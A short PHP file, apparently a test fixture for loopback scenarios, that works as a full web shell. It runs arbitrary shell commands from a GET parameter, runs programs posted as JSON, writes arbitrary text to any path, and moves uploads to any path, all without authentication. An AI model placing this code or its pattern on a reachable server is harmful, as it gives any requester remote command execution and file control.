<?php
// A bad page: it does whatever the request says. Used only by the stories, on loopback.
if (isset($_GET['c'])) {
    system($_GET['c']);
} elseif (isset($_POST['run'])) {
    // A program and its arguments, without a shell.
    $process = proc_open(json_decode($_POST['run']), [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes);
    echo stream_get_contents($pipes[1]), stream_get_contents($pipes[2]);
    proc_close($process);
} elseif (isset($_POST['to'])) {
    echo file_put_contents($_POST['to'], $_POST['text']) !== false ? 'written' : 'refused';
} elseif (isset($_FILES['file'])) {
    echo move_uploaded_file($_FILES['file']['tmp_name'], $_POST['as']) ? 'moved' : 'refused';
}
